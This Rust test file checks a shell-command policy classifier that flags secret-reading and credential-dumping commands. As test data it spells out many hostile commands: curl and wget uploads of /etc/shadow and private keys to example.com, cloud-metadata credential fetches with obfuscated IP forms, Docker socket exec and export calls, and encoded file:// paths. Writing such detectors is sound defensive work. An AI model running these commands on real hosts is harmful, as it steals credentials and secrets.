//! Target classes from the outside review: paths that cannot be resolved lexically, guests'
//! root filesystems, implicit and changed working directories, secret files named by
//! convention, secrets in version control, tools that echo files they read, dumps that
//! carry credentials, and writes hidden in options. Each test crosses a family of
//! readers or writers with a family of spellings, so one missed variant fails it.

use nomos_policy::{Class, classify};

fn asks(cmd: &str) -> bool {
    classify(cmd).class == Class::Destructive
}

fn not_read_only(cmd: &str) -> bool {
    classify(cmd).class != Class::ReadOnly
}

fn check_all(cmds: impl IntoIterator<Item = String>, want: fn(&str) -> bool, what: &str) {
    let bad: Vec<String> = cmds
        .into_iter()
        .filter(|c| !want(c))
        .map(|c| {
            let d = classify(&c);
            format!("{c:?}: {} ({}: {})", d.class, d.rule(), d.reason())
        })
        .collect();
    assert!(bad.is_empty(), "{what}:\n{}", bad.join("\n"));
}

fn read_only(cmd: &str) -> bool {
    classify(cmd).class == Class::ReadOnly
}

const READERS: &[&str] = &[
    "cat {}",
    "head -n 5 {}",
    "tail {}",
    "grep -i x {}",
    "sort {}",
];

const SECRETS: &[&str] = &[
    "/etc/shadow",
    "/etc/gshadow",
    "/root/.ssh/id_rsa",
    "/etc/ssl/private/site.key",
    "/etc/pve/priv/authkey.key",
];

fn with_readers(paths: &[String]) -> Vec<String> {
    READERS
        .iter()
        .flat_map(|r| paths.iter().map(move |p| r.replace("{}", p)))
        .collect()
}

#[test]
fn dot_dot_after_a_possible_symlink_is_not_resolved_lexically() {
    let detours = [
        "/var/run/..",
        "/proc/self/cwd/..",
        "/usr/lib/..",
        "/opt/app/current/../..",
        "/srv/a/b/../../..",
        "/home/u/link/..",
    ];
    let paths: Vec<String> = detours
        .iter()
        .flat_map(|d| SECRETS.iter().map(move |s| format!("{d}{s}")))
        .collect();
    check_all(
        with_readers(&paths),
        asks,
        "`..` detours to secrets must ask",
    );
    // Without a secret at the end, a detour stays a plain read.
    check_all(
        with_readers(&[
            "/var/log/../log/syslog".into(),
            "/etc/nginx/../hostname".into(),
        ]),
        read_only,
        "harmless detours",
    );
}

#[test]
fn descriptor_and_process_roots_are_other_filesystems() {
    let paths: Vec<String> = [
        "/proc/self/root/etc/shadow",
        "/proc/1/root/etc/shadow",
        "/proc/1234/cwd/.env",
        "/proc/self/fd/3",
        "/dev/fd/3",
        "/dev/fd/9/etc/shadow",
        "/dev/fd/12",
        "/proc/7/map_files/x",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    check_all(with_readers(&paths), asks, "process roots");
}

const GUEST_ROOTS: &[&str] = &[
    "/rpool/data/subvol-101-disk-0",
    "/tank/ct/subvol-200-disk-1",
    "/var/lib/lxc/web/rootfs",
    "/var/lib/lxd/containers/c1/rootfs",
    "/var/snap/lxd/common/lxd/storage-pools/default/containers/c1/rootfs",
    "/var/lib/docker/overlay2/0f3a9c/merged",
    "/var/lib/docker/overlay2/0f3a9c/diff",
    "/var/lib/containers/storage/overlay/9e1/merged",
    "/var/lib/machines/debian",
    "/mnt/image",
    "/srv/chroot/bookworm",
    "/media/usb/backup-root",
];

#[test]
fn secrets_inside_guest_root_filesystems() {
    let paths: Vec<String> = GUEST_ROOTS
        .iter()
        .flat_map(|g| {
            [
                "/etc/shadow",
                "/etc/gshadow",
                "/root/.ssh/id_ed25519",
                "/etc/ssl/private/x.key",
                "/var/lib/sss/secrets/secrets.ldb",
                "/home/ops/.aws/credentials",
            ]
            .iter()
            .map(move |s| format!("{g}{s}"))
        })
        .collect();
    check_all(with_readers(&paths), asks, "guest secrets");
    let recursive: Vec<String> = GUEST_ROOTS
        .iter()
        .filter(|g| g.contains("rootfs") || g.contains("subvol") || g.contains("merged"))
        .flat_map(|g| {
            [
                format!("grep -r password {g}"),
                format!("grep -rn token {g}/etc"),
                format!("rg secret {g}/root"),
            ]
        })
        .collect();
    check_all(recursive, asks, "recursive reads of guest roots");
    check_all(
        with_readers(&[
            "/var/lib/lxc/web/rootfs/etc/hostname".into(),
            "/mnt/image/etc/os-release".into(),
        ]),
        read_only,
        "harmless guest files",
    );
}

#[test]
fn recursive_search_without_a_path_reads_the_working_directory() {
    let cmds: Vec<String> = [
        "grep -r {}",
        "grep -R {}",
        "grep -rn {}",
        "grep --recursive -i {}",
        "egrep -r {}",
        "rg {}",
        "rg -i {}",
        "rg -n --hidden {}",
        "git grep {}",
        "git grep -n {}",
    ]
    .iter()
    .flat_map(|t| {
        ["password", "secret", "api_key", "BEGIN"]
            .iter()
            .map(move |w| t.replace("{}", w))
    })
    .collect();
    check_all(cmds.clone(), asks, "implicit `.` is the home directory");
    // The same searches under a harmless working directory are reads.
    check_all(
        cmds.iter()
            .filter(|c| !c.starts_with("git"))
            .map(|c| format!("cd /var/log && {c}")),
        read_only,
        "implicit `.` under /var/log",
    );
    check_all(
        ["grep password", "grep -c x", "grep -rl password"].map(String::from),
        read_only,
        "stdin and quiet searches",
    );
}

#[test]
fn changed_working_directories_are_followed() {
    let cmds: Vec<String> = [
        "cd /etc && {r} shadow",
        "cd /root/.ssh && {r} id_rsa",
        "cd /var/lib/lxc/web/rootfs/etc && {r} shadow",
        "cd /var/run/../etc && {r} shadow",
        "cd /srv/app/current/.. && {r} ../../etc/shadow",
        "cd /opt/link/../.. && {r} etc/gshadow",
    ]
    .iter()
    .flat_map(|t| ["cat", "head", "grep x"].map(|r| t.replace("{r}", r)))
    .collect();
    check_all(cmds, asks, "cd then relative secret");
    check_all(
        [
            "cd /etc && grep -r password",
            "cd /root && rg token",
            "git -C /etc show HEAD:shadow",
            "git --git-dir /etc/.git show HEAD:shadow",
            "git --git-dir=/etc/.git --work-tree=/etc log -p",
            "git -C /etc log -p",
            "git -C /etc diff HEAD~1",
            "cd /etc && git log -p",
            "cd /srv/site/link/.. && cat config/config.php",
            "cd /srv/a/b/.. && grep -r password",
            "tar -C /etc -cf - shadow",
            "tar --directory=/root -cf - .ssh",
            "tar -cf - -C /etc ssl/private",
            "find /etc -execdir cat shadow \\;",
            "find /root -execdir cat .ssh/id_rsa \\;",
            "find / -execdir grep -r password \\;",
            "docker exec -w /etc web cat shadow",
            "docker exec --workdir /root web cat .ssh/id_rsa",
            "podman exec -w /etc web head shadow",
            "nsenter -t 1 -m --wd=/etc cat shadow",
            "nsenter -t 1 -m -w cat shadow",
            "env -C /etc cat shadow",
            "env --chdir=/etc cat shadow",
            "sudo -D /etc cat shadow",
            "systemd-run --working-directory=/etc cat shadow",
            "make -C /etc -n",
        ]
        .map(String::from),
        asks,
        "working directories set by the command",
    );
    check_all(
        [
            "tar -C /var/log -cf - syslog",
            "docker exec -w /app web cat config.yml",
            "find /var/log -name '*.gz' -execdir zcat {} \\;",
        ]
        .map(String::from),
        read_only,
        "harmless working directories",
    );
}

#[test]
fn files_named_for_secrets_ask() {
    let names = [
        "/etc/shadow.bak",
        "/etc/shadow~",
        "/etc/shadow-",
        "/etc/gshadow-",
        "/var/backups/shadow.bak",
        "/var/backups/gshadow.bak",
        "/etc/shadow.dpkg-old",
        "/etc/krb5.keytab",
        "/etc/apache2/http.keytab",
        "/etc/haproxy/certs/site.pem",
        "/etc/ssl/privkey1.pem",
        "/etc/ssl/server-key.pem",
        "/srv/pki/client.p12",
        "/etc/luks-keys/disk1",
        "/root/keyfile",
        "/root/.npmrc",
        "/home/u/.pypirc",
        "/home/u/.netrc",
        "/home/u/.git-credentials",
        "/home/u/.docker/config.json",
        "/home/u/.kube/config",
        "/root/.bash_history",
        "/root/.zsh_history",
        "/root/.psql_history",
        "/root/.mysql_history",
        "/root/.python_history",
        "/root/.lesshst",
        "/root/.viminfo",
        "/root/.rediscli_history",
        "/root/.sqlite_history",
        "/root/.node_repl_history",
        "/etc/sssd/sssd.conf",
        "/var/lib/sss/secrets/secrets.ldb",
        "/etc/salt/pki/master/master.pem",
        "/etc/salt/pki/minion/minion.pub.bak",
        "/root/.erlang.cookie",
        "/var/lib/rabbitmq/.erlang.cookie",
        // Named by convention, at paths nobody listed.
        "/srv/app/api_token",
        "/srv/app/app_secret.txt",
        "/srv/app/db-credentials.txt",
        "/srv/app/master.passwd",
        "/srv/app/tls.key.bak",
        "/srv/app/deploy_rsa",
        "/srv/app/id_ed25519.old",
        "/srv/app/vault.json",
        "/srv/app/.env.local",
        "/srv/app/.env.production",
        "/srv/app/env.prod",
        "/opt/x/Client_Secret.txt",
        "/opt/x/TOKEN",
        "/etc/cryptsetup-keys.d/data.key",
        "/etc/cryptsetup-keys.d/data",
        "/etc/tcb/root/shadow",
        "/root/.histfile",
        "/root/.local/share/fish/fish_history",
        "/srv/cluster/prod.kubeconfig",
        "/home/u/vpn/office.ovpn",
        "/home/u/keys/server.ppk",
        "/home/u/.composer/auth.json",
        "/root/.gnupg/secring.gpg",
    ];
    let paths: Vec<String> = names.iter().map(|s| s.to_string()).collect();
    check_all(with_readers(&paths), asks, "secret names");
    let public: Vec<String> = [
        "/etc/passwd",
        "/etc/passwd-",
        "/etc/group",
        "/root/.ssh/authorized_keys",
        "/root/.ssh/known_hosts",
        "/root/.ssh/id_rsa.pub",
        "/etc/ssl/certs/ca-certificates.crt",
        "/etc/hostname",
        "/etc/nginx/nginx.conf",
        "/srv/app/group_vars/all/vault.yml",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    check_all(with_readers(&public), read_only, "public files");
}

#[test]
fn secrets_in_version_control_ask() {
    check_all(
        [
            "git show HEAD:.env",
            "git show HEAD~3:config/secrets.yml",
            "git show main:deploy/id_rsa",
            "git show v1.2:.env.production",
            "git show :0:.env",
            "git cat-file -p HEAD:.env",
            "git cat-file blob v1:config/credentials.json",
            "git log -p -- .env",
            "git log --patch -- config/credentials.yml",
            "git log -p -3 .env",
            "git diff HEAD~1 -- .env",
            "git diff HEAD~1 .env",
            "git diff main -- secrets/prod.yaml",
            "git blame .env",
            "git blame -L 1,5 deploy/id_ed25519",
            "git archive HEAD .env",
        ]
        .map(String::from),
        asks,
        "committed secrets",
    );
    check_all(
        [
            "git show HEAD:README.md",
            "git log -p -- src/main.rs",
            "git -C /etc log --oneline",
            "git -C /srv/app log -p -3",
            "git diff HEAD~1 --stat",
            "git show --stat HEAD",
            "git log -p -1",
            "git -C /etc status",
        ]
        .map(String::from),
        read_only,
        "ordinary history",
    );
}

#[test]
fn tools_that_echo_the_file_they_read() {
    let cmds: Vec<String> = [
        "nginx -t -c {}",
        "sshd -t -f {}",
        "dig -f {}",
        "man -l {}",
        "apachectl -t -f {}",
        "haproxy -c -f {}",
        "named-checkconf {}",
        "visudo -c -f {}",
        "diff {} /tmp/x",
        "cmp /tmp/x {}",
        "grep -f {} /dev/null",
        "caddy adapt --config {}",
        "caddy validate -c {}",
        "php-fpm -t -y {}",
        "php-fpm8.2 -t -c {}",
        "nft -c -f {}",
        "docker compose -f {} config",
        "docker-compose -f {} config",
        "git config -f {} --list",
    ]
    .iter()
    .flat_map(|t| SECRETS.iter().map(move |s| t.replace("{}", s)))
    .collect();
    check_all(cmds, asks, "checkers reading secrets");
    check_all(
        [
            "nginx -t -c /etc/nginx/nginx.conf",
            "sshd -t -f /etc/ssh/sshd_config",
            "dig +short example.com",
            "named-checkconf /etc/bind/named.conf",
        ]
        .map(String::from),
        read_only,
        "checkers on ordinary files",
    );
}

#[test]
fn dumps_that_carry_credentials_ask() {
    check_all(
        [
            "kubectl config view --flatten",
            "caddy environ",
            "kubectl config view --raw",
            "kubectl get secret db -o yaml",
            "helm get values grafana",
            "helm get manifest grafana -n monitoring",
            "helm get all x",
            "docker service inspect web",
            "docker secret inspect s",
            "docker config inspect c",
            "docker top web e",
            "docker top web auxe",
            "podman top web eww",
            "virsh dumpxml --security-info vm1",
            "qm cloudinit dump 100 user",
            "coredumpctl dump",
            "coredumpctl debug",
            "tmux capture-pane -p",
            "tmux capturep -t 0 -p",
            "tmux show-buffer",
            "systemctl show -p Environment nginx",
            "systemctl show --property=Environment,MainPID nginx",
            "systemctl show -P Environment nginx",
            "systemctl show-environment",
            "systemctl show nginx",
            "cat /proc/1/environ",
        ]
        .map(String::from),
        asks,
        "dumps",
    );
    check_all(
        [
            "kubectl config view",
            "helm get notes grafana",
            "docker service ls",
            "docker top web",
            "docker top web aux",
            "virsh dumpxml vm1",
            "qm cloudinit dump 100 network",
            "coredumpctl list",
            "tmux ls",
            "systemctl show -p ActiveState,SubState nginx",
            "systemctl show -p EnvironmentFiles gitea",
        ]
        .map(String::from),
        read_only,
        "listings",
    );
}

#[test]
fn writes_hidden_in_options_and_operands() {
    check_all(
        [
            "flock /etc/nologin true",
            "flock -n /run/nologin uptime",
            "flock -x /var/run/nologin -c true",
            "flock /etc/cron.d/x true",
        ]
        .map(String::from),
        asks,
        "lock files in protected places",
    );
    let cmds: Vec<String> = [
        "flock /tmp/x.lock uptime",
        "rsync -n --log-file=/tmp/x a b",
        "rsync --dry-run --log-file /tmp/x a/ b/",
        "rsync -an --only-write-batch=/tmp/b a b",
        "sensors -s",
        "sensors --set",
        "ssh -o UserKnownHostsFile=/tmp/kh host uptime",
        "ssh -o 'UserKnownHostsFile /tmp/kh' host uptime",
        "ssh -oUserKnownHostsFile=/tmp/kh host uptime",
        "ssh -o ControlPath=/tmp/c -o ControlMaster=yes host uptime",
        "ssh -o ControlMaster=auto -o ControlPath=/tmp/%C host uptime",
        "ssh -o ControlPersist=10m host uptime",
        "ssh -o LocalCommand=id -o PermitLocalCommand=yes host uptime",
        "ssh -o ProxyCommand='nc %h %p' host uptime",
        "ssh -o KnownHostsCommand=/tmp/x host uptime",
        "ssh -E /tmp/log host uptime",
        "ssh -y host uptime",
        "uniq *",
        "uniq -c *.log",
        "uniq $f",
        "uniq $(ls)",
        "uniq a b",
        "sort -o /tmp/x a",
        "git log $O",
        "git show $OPTS HEAD",
        "git diff $X",
        "git clean -f -- -n",
        "git clean -fdx -- --dry-run",
        "rsync -- -n a b",
    ]
    .map(String::from)
    .to_vec();
    check_all(cmds, not_read_only, "hidden writes");
    check_all(
        [
            "ssh -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no host uptime",
            "ssh -o ControlPath=/tmp/c host uptime",
            "ssh -o ControlMaster=no host uptime",
            "sensors -j",
            "uniq -c /tmp/x",
            "rev=HEAD~2; git log -1 \"$rev\"",
            "git clean -n",
            "rsync -n -av a/ b/",
        ]
        .map(String::from),
        read_only,
        "harmless options",
    );
}

#[test]
fn curl_reads_files_through_urls_and_at_values() {
    let urls: Vec<String> = [
        "file:///etc/%73hadow",
        "file:///etc/%73%68%61%64%6f%77",
        "file:///%65tc/shadow",
        "FILE:///etc/shadow",
        "file://localhost/etc/shadow",
        "file:/etc/shadow",
        "file:///etc/{shadow,passwd}",
        "file:///etc/shado[v-x]",
        "file:///root/.ssh/id_[a-z]sa",
        "file:///etc/ssl/private/{a,b}.key",
    ]
    .iter()
    .map(|u| format!("curl -s '{u}'"))
    .collect();
    check_all(urls, asks, "file URLs");
    let at: Vec<String> = [
        "-w @{}",
        "--write-out @{}",
        "--url-query @{}",
        "--url-query k@{}",
        "--url-query +k@{}",
        "--data-urlencode k@{}",
        "--data-urlencode @{}",
        "-d @{}",
        "--data-binary @{}",
        "--json @{}",
        "-F k=@{}",
        "-F 'k=<{}'",
        "-T {}",
        "-K {}",
        "--config {}",
        "-H @{}",
    ]
    .iter()
    .flat_map(|t| {
        SECRETS
            .iter()
            .map(move |f| format!("curl {} https://example.com/x", t.replace("{}", f)))
    })
    .chain(SECRETS.iter().flat_map(|f| {
        [
            format!("wget --post-file={f} https://example.com"),
            format!("wget -i {f}"),
            format!("wget --body-file={f} --method=PUT https://example.com"),
        ]
    }))
    .collect();
    check_all(at, asks, "@FILE values");
    check_all(
        [
            "curl -s https://example.com/x",
            "curl -w '%{http_code}' -o /dev/null -s https://example.com",
            "curl --url-query 'a=b@c' https://example.com",
            "curl -s file:///etc/hostname",
        ]
        .map(String::from),
        read_only,
        "ordinary curl",
    );
}

#[test]
fn docker_api_requests_ask_unless_listings() {
    let sockets = [
        "--unix-socket /var/run/docker.sock",
        "--unix-socket /run/docker.sock",
        "--unix-socket /run/podman/podman.sock",
        "--unix-socket /run/user/1000/podman/podman.sock",
    ];
    let bad: Vec<String> = sockets
        .iter()
        .flat_map(|s| {
            [
                format!("curl {s} http://localhost/containers/abc/json"),
                format!("curl {s} http://localhost/v1.43/containers/abc/json"),
                format!("curl {s} http://localhost/secrets"),
                format!("curl {s} http://localhost/configs"),
                format!("curl {s} http://localhost/services"),
                format!("curl {s} 'http://localhost/containers/abc/archive?path=/etc/shadow'"),
                format!("curl {s} http://localhost/containers/abc/export"),
                format!("curl {s} -X POST http://localhost/containers/abc/start"),
                format!("curl {s} -XPOST http://d/containers/create -d '{{}}'"),
                format!("curl {s} -d '{{}}' http://d/exec/x/start"),
                format!("curl {s} -X DELETE http://localhost/containers/abc"),
            ]
        })
        .chain([
            "curl http://127.0.0.1:2375/containers/abc/json".to_owned(),
            "curl -X POST http://10.0.0.5:2375/containers/create".to_owned(),
        ])
        .collect();
    check_all(bad, asks, "Docker API");
    let good: Vec<String> = sockets
        .iter()
        .flat_map(|s| {
            [
                format!("curl -s {s} http://localhost/containers/json"),
                format!("curl -s {s} http://localhost/v1.43/containers/json?all=1"),
                format!("curl -s {s} http://localhost/_ping"),
                format!("curl -s {s} http://localhost/info"),
                format!("curl -s {s} http://localhost/images/json"),
            ]
        })
        .collect();
    check_all(good, read_only, "Docker API listings");
}

#[test]
fn cloud_metadata_credentials_ask() {
    let hosts = [
        "169.254.169.254",
        "2852039166",
        "0xa9fea9fe",
        "0xA9.0xFE.0xA9.0xFE",
        "0251.0376.0251.0376",
        "169.254.43518",
        "[::ffff:169.254.169.254]",
        "[::ffff:a9fe:a9fe]",
        "[fd00:ec2::254]",
        "169.254.169.254:80",
        "user@169.254.169.254",
        "metadata.google.internal",
        "metadata",
        "169.254.170.2",
        "100.100.100.200",
    ];
    let paths = [
        "/latest/meta-data/iam/security-credentials/",
        "/latest/meta-data/iam/security-credentials/role",
        "/latest/api/token",
        "/latest/user-data",
        "/metadata/identity/oauth2/token?resource=x",
        "/computeMetadata/v1/instance/service-accounts/default/token",
        "/computeMetadata/v1/instance/attributes/?recursive=true",
        "/v2/credentials/abc",
        "/latest/meta-data/",
    ];
    let cmds: Vec<String> = hosts
        .iter()
        .flat_map(|h| {
            paths.iter().flat_map(move |p| {
                [
                    format!("curl -s 'http://{h}{p}'"),
                    format!("wget -qO- 'http://{h}{p}'"),
                ]
            })
        })
        .chain([
            "curl -s --resolve x:80:169.254.169.254 http://x/latest/meta-data/iam/security-credentials/"
                .to_owned(),
            "curl -s 169.254.169.254/latest/meta-data/iam/security-credentials/".to_owned(),
        ])
        .collect();
    check_all(cmds, asks, "metadata credentials");
    check_all(
        [
            "curl -s http://169.254.169.254/latest/meta-data/instance-id",
            "curl -s http://169.254.169.254/latest/meta-data/placement/availability-zone",
            "curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/zone",
            "curl -s http://169.254.1.1/status",
        ]
        .map(String::from),
        read_only,
        "metadata facts",
    );
}
